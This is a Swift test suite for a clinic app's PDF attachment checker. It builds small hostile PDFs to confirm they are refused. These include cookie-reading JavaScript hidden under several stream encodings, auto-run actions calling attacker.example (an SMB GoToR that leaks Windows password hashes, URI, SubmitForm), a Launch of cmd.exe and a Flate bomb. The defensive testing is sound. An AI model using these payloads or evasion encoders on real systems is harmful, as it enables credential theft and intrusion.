import Foundation
import Testing
@testable import ClinicKit
@testable import ClinicPDF

/// The PDF check's bypasses of issue 42 (item 8), each built here as a small valid PDF: a script
/// in an object stream under every filter a viewer decodes (ASCIIHex, ASCII85, Flate after
/// ASCIIHex, Flate with a PNG predictor), and actions that run without a click (`/OpenAction`,
/// a page's `/AA`) reaching out of the file (`/GoToR` to an SMB share leaks the Windows
/// password hash; `/URI`, `/Launch`, `/SubmitForm`, `/ImportData`, `/GoToE`). All are refused
/// with `invalid_input`; an ordinary letter, and one with a clickable link, are not.
@Suite struct PDFActiveContentTests {
    static let script = "<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"

    /// The objects a PDF action leaving the file needs, per type.
    static let outward: [(String, String)] = [
        ("/GoToR", #"<< /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) /D [0 /Fit] /NewWindow false >>"#),
        ("/URI", "<< /S /URI /URI (https://attacker.example/?leak) >>"),
        ("/Launch", "<< /S /Launch /F (cmd.exe) >>"),
        ("/SubmitForm", "<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>"),
        ("/ImportData", "<< /S /ImportData /F (\\\\\\\\attacker.example\\\\share\\\\x.fdf) >>"),
        ("/GoToE", "<< /S /GoToE /D [0 /Fit] /T << /R /C /N (x.pdf) >> >>"),
    ]

    func prepare(_ data: Data) throws -> PreparedAttachment {
        try makeSystem().attachments.prepare(AttachmentUpload(data: data, declaredType: "application/pdf", name: "letter.pdf"))
    }

    func refused(_ data: Data) throws -> ClinicError? {
        let system = try makeSystem()
        do {
            _ = try system.attachments.prepare(AttachmentUpload(data: data, declaredType: "application/pdf", name: "letter.pdf"))
            return nil
        } catch let error as ClinicError {
            return error
        }
    }

    // MARK: Scripts in object streams, under every filter

    @Test(arguments: ["/ASCIIHexDecode", "/ASCII85Decode", "[/FlateDecode /ASCIIHexDecode]", "/FlateDecode /Predictor 12"])
    func aScriptInAnEncodedObjectStreamIsRefused(_ filter: String) throws {
        let encoded: PDFMaker.Encoding = switch filter {
        case "/ASCIIHexDecode": .hex
        case "/ASCII85Decode": .ascii85
        case "[/FlateDecode /ASCIIHexDecode]": .flateOfHex
        default: .flateWithPNGUp(columns: 5)
        }
        let pdf = PDFMaker.make(catalog: "/OpenAction 4 0 R", packed: [Self.script], encoding: encoded)
        // The bytes as sent do not say JavaScript anywhere, nor does any Flate stream inflated.
        #expect(pdf.range(of: Data("JavaScript".utf8)) == nil)
        let error = try refused(pdf)
        #expect(error?.code == .invalidInput && error?.key == .attachmentPDFActive, "\(filter): \(String(describing: error))")
    }

    /// A Flate bomb within the upload limit (150 MiB of zeros in 150 KiB) is refused before qpdf,
    /// which would inflate it whole, reads it.
    @Test func aFlateBombIsRefusedBeforeQPDFReadsIt() throws {
        let bomb = try #require(Gzip.compress([UInt8](repeating: 0, count: 150 * 1024 * 1024)))
        var pdf = Data("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n".utf8)
        pdf += Data("3 0 obj\n<< /Length \(bomb.count) /Filter /FlateDecode >>\nstream\n".utf8) + Data(bomb)
        pdf += Data("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n".utf8)
        #expect(pdf.count < AttachmentLimits.maximumBytes)
        #expect(!PDFActiveContent.inflatesWithinBudget(pdf))
        #expect(PDFActiveContent.inflatesWithinBudget(pdf, budget: 200 * 1024 * 1024), "within a larger budget it would pass")
        let error = try refused(pdf)
        #expect(error?.code == .invalidInput && error?.key == .attachmentUndecodable, "\(String(describing: error))")
    }

    // MARK: Actions that run when the file opens or a page shows

    @Test(arguments: outward.map(\.0))
    func anOutwardActionInOpenActionIsRefused(_ type: String) throws {
        let action = try #require(Self.outward.first { $0.0 == type }?.1)
        let error = try refused(PDFMaker.make(catalog: "/OpenAction 4 0 R", loose: [action]))
        #expect(error?.code == .invalidInput && error?.key == .attachmentPDFActive, "\(type): \(String(describing: error))")
        #expect(error?.arguments.first?.contains(type) == true, "\(String(describing: error?.arguments))")
    }

    @Test(arguments: outward.map(\.0))
    func anOutwardActionInAPagesAdditionalActionsIsRefused(_ type: String) throws {
        let action = try #require(Self.outward.first { $0.0 == type }?.1)
        // On the page's opening (/O), the action packed in a Flate object stream as well.
        let error = try refused(PDFMaker.make(page: "/AA << /O 4 0 R >>", packed: [action], encoding: .flate))
        #expect(error?.code == .invalidInput && error?.key == .attachmentPDFActive, "\(type): \(String(describing: error))")
        #expect(error?.arguments.first?.contains(type) == true, "\(String(describing: error?.arguments))")
    }

    @Test func anOutwardActionChainedAfterAHarmlessOneIsRefused() throws {
        let chained = "<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage >> << /S /URI /URI (https://attacker.example/) >>] >>"
        let error = try refused(PDFMaker.make(catalog: "/OpenAction 4 0 R", loose: [chained]))
        #expect(error?.key == .attachmentPDFActive && error?.arguments.first?.contains("/URI") == true, "\(String(describing: error))")
    }

    // MARK: What is still refused as before

    @Test func scriptsAnywhereAreStillRefused() throws {
        let cases: [(String, Data)] = [
            ("a script on a link", PDFMaker.make(page: "/Annots [4 0 R]",
                                                 loose: ["<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A \(Self.script) >>"])),
            ("a script named in #xx", PDFMaker.make(catalog: "/Names << /J#61vaScript 4 0 R >>", loose: ["<< /Names [] >>"])),
            ("an embedded file", PDFMaker.make(catalog: "/Names << /EmbeddedFiles 4 0 R >>", loose: ["<< /Names [] >>"])),
            ("a script in an object nothing refers to", PDFMaker.make(loose: [Self.script])),
        ]
        for (what, pdf) in cases {
            let error = try refused(pdf)
            #expect(error?.code == .invalidInput && error?.key == .attachmentPDFActive, "\(what): \(String(describing: error))")
        }
    }

    @Test func aPDFThatCannotBeReadOrCheckedIsRefused() throws {
        let cases: [(String, Data, MessageKey)] = [
            ("no objects and no trailer", Data("%PDF-1.4\n% a letter\n%%EOF".utf8), .attachmentUndecodable),
            ("an object stream under a filter nobody decodes",
             PDFMaker.make(catalog: "/OpenAction 4 0 R", packed: [Self.script], encoding: .unknownFilter), .attachmentUndecodable),
            ("more than 100,000 objects declared", PDFMaker.make(size: 100_001), .attachmentUndecodable),
            // qpdf finds no object 4; a reader that repairs the file from its object streams would.
            ("an object stream holding objects the cross-reference does not list",
             PDFMaker.make(catalog: "/OpenAction 4 0 R", packed: ["<< /S /URI /URI (https://attacker.example/) >>"],
                           encoding: .flate, unlisted: true), .attachmentUndecodable),
        ]
        for (what, pdf, key) in cases {
            let error = try refused(pdf)
            #expect(error?.code == .invalidInput && error?.key == key, "\(what): \(String(describing: error))")
        }
    }

    // MARK: Ordinary letters

    @Test func ordinaryPDFsAreAccepted() throws {
        let tiny = try Data(contentsOf: projectRoot.appendingPathComponent("Tests/ClinicImagesTests/Fixtures/tiny.pdf"))
        let link = "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
            + "/A << /S /URI /URI (https://clinic.example/referrals/123) >> >>"
        let cases: [(String, Data)] = [
            ("tiny.pdf", tiny),
            // A referral letter's clickable link runs only when clicked: kept (docs/SECURITY.md).
            ("a link to a web page", PDFMaker.make(page: "/Annots [4 0 R]", loose: [link])),
            ("the same link in a compressed object stream", PDFMaker.make(page: "/Annots [4 0 R]", packed: [link],
                                                                          encoding: .flateWithPNGUp(columns: 7))),
            ("an opening at the first page", PDFMaker.make(catalog: "/OpenAction [3 0 R /Fit]")),
            ("an opening by a GoTo action", PDFMaker.make(catalog: "/OpenAction << /S /GoTo /D [3 0 R /FitH 792] >>")),
        ]
        for (what, pdf) in cases {
            do { _ = try prepare(pdf) } catch { Issue.record("\(what) was refused: \(error)") }
        }
    }
}

/// Small PDFs made in the tests: a catalog (1), its pages (2) and one page (3), then the
/// objects given (numbered from 4: first `loose` ones, then `packed` ones in one object stream
/// under the encoding given), and a cross-reference stream, so a reader finds every object
/// without repairing anything (`unlisted`: the packed ones are left out of it, as free).
enum PDFMaker {
    enum Encoding { case none, hex, ascii85, flate, flateOfHex, flateWithPNGUp(columns: Int), unknownFilter }

    static func make(catalog: String = "", page: String = "", loose: [String] = [], packed: [String] = [],
                     encoding: Encoding = .none, size: Int? = nil, unlisted: Bool = false) -> Data {
        var out = [UInt8]("%PDF-1.7\n%\u{E2}\u{E3}\u{CF}\u{D3}\n".utf8)
        var offsets: [Int: Int] = [:]  // object number → offset (in the file)
        var packedAt: [Int: (stream: Int, index: Int)] = [:]
        func object(_ number: Int, _ body: [UInt8]) {
            offsets[number] = out.count
            out += Array("\(number) 0 obj\n".utf8) + body + Array("\nendobj\n".utf8)
        }
        object(1, Array("<< /Type /Catalog /Pages 2 0 R \(catalog) >>".utf8))
        object(2, Array("<< /Type /Pages /Kids [3 0 R] /Count 1 >>".utf8))
        object(3, Array("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] \(page) >>".utf8))
        var number = 4
        for body in loose { object(number, Array(body.utf8)); number += 1 }
        if !packed.isEmpty {
            let stream = number + packed.count
            var header = "", bodies = ""
            for (index, body) in packed.enumerated() {
                header += "\(number + index) \(bodies.utf8.count) "
                bodies += body + "\n"
                packedAt[number + index] = (stream, index)
            }
            let plain = Array((header + "\n").utf8)
            let content = plain + Array(bodies.utf8)
            let (filter, encoded) = encode(content, encoding)
            object(stream, Array("<< /Type /ObjStm /N \(packed.count) /First \(plain.count) \(filter) /Length \(encoded.count) >>\nstream\n".utf8)
                   + encoded + Array("\nendstream".utf8))
            number = stream + 1
        }
        // The cross-reference stream: type, offset or object stream (4 bytes), generation or index (2).
        let xref = number
        offsets[xref] = out.count
        var table: [UInt8] = [0, 0, 0, 0, 0, 0xFF, 0xFF]
        for object in 1...xref {
            if let (stream, index) = packedAt[object] {
                table += unlisted ? [0, 0, 0, 0, 0, 0, 0] : [2] + bigEndian(stream, 4) + bigEndian(index, 2)
            } else {
                table += [1] + bigEndian(offsets[object] ?? 0, 4) + [0, 0]
            }
        }
        let declared = size ?? xref + 1
        out += Array("\(xref) 0 obj\n<< /Type /XRef /Size \(declared) /Index [0 \(xref + 1)] /W [1 4 2] /Root 1 0 R /Length \(table.count) >>\nstream\n".utf8)
            + table + Array("\nendstream\nendobj\nstartxref\n\(offsets[xref] ?? 0)\n%%EOF\n".utf8)
        return Data(out)
    }

    static func bigEndian(_ value: Int, _ count: Int) -> [UInt8] {
        (0..<count).map { UInt8((value >> (8 * (count - 1 - $0))) & 0xFF) }
    }

    static func encode(_ bytes: [UInt8], _ encoding: Encoding) -> (filter: String, data: [UInt8]) {
        switch encoding {
        case .none: ("", bytes)
        case .hex: ("/Filter /ASCIIHexDecode", hex(bytes))
        case .ascii85: ("/Filter /ASCII85Decode", ascii85(bytes))
        case .flate: ("/Filter /FlateDecode", zlibStored(bytes))
        case .flateOfHex: ("/Filter [/FlateDecode /ASCIIHexDecode]", zlibStored(hex(bytes)))
        case .flateWithPNGUp(let columns):
            ("/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns \(columns) >>", zlibStored(pngUp(bytes, columns: columns)))
        case .unknownFilter: ("/Filter /ClinicSecretDecode", hex(bytes))
        }
    }

    static func hex(_ bytes: [UInt8]) -> [UInt8] {
        Array((bytes.map { String(format: "%02X", $0) }.joined() + ">").utf8)
    }

    static func ascii85(_ bytes: [UInt8]) -> [UInt8] {
        var out: [UInt8] = []
        var index = 0
        while index < bytes.count {
            let chunk = Array(bytes[index..<min(index + 4, bytes.count)])
            let padded = chunk + Array(repeating: 0, count: 4 - chunk.count)
            var value = padded.reduce(UInt32(0)) { $0 << 8 | UInt32($1) }
            var digits = [UInt8](repeating: 0, count: 5)
            for position in (0..<5).reversed() { digits[position] = UInt8(value % 85) + 33; value /= 85 }
            out += digits.prefix(chunk.count + 1)
            index += 4
        }
        return out + Array("~>".utf8)
    }

    /// zlib's format with stored (uncompressed) deflate blocks: valid Flate that every reader
    /// inflates; what it hides comes from the filter or predictor around it.
    static func zlibStored(_ bytes: [UInt8]) -> [UInt8] {
        var out: [UInt8] = [0x78, 0x01]
        var index = 0
        repeat {
            let length = min(65_535, bytes.count - index)
            let last: UInt8 = index + length >= bytes.count ? 1 : 0
            out += [last, UInt8(length & 0xFF), UInt8(length >> 8), UInt8(~length & 0xFF), UInt8((~length >> 8) & 0xFF)]
            out += bytes[index..<index + length]
            index += length
        } while index < bytes.count
        var a: UInt32 = 1, b: UInt32 = 0
        for byte in bytes { a = (a + UInt32(byte)) % 65_521; b = (b + a) % 65_521 }
        return out + bigEndian(Int(b << 16 | a), 4)
    }

    /// PNG's "Up" filter on rows of `columns` bytes (each row: 2, then each byte minus the one
    /// above it), as `/Predictor 12` undoes it.
    static func pngUp(_ bytes: [UInt8], columns: Int) -> [UInt8] {
        let padded = bytes + Array(repeating: 0x20, count: (columns - bytes.count % columns) % columns)
        var out: [UInt8] = []
        var above = [UInt8](repeating: 0, count: columns)
        for start in stride(from: 0, to: padded.count, by: columns) {
            let row = Array(padded[start..<start + columns])
            out.append(2)
            for column in 0..<columns { out.append(row[column] &- above[column]) }
            above = row
        }
        return out
    }
}
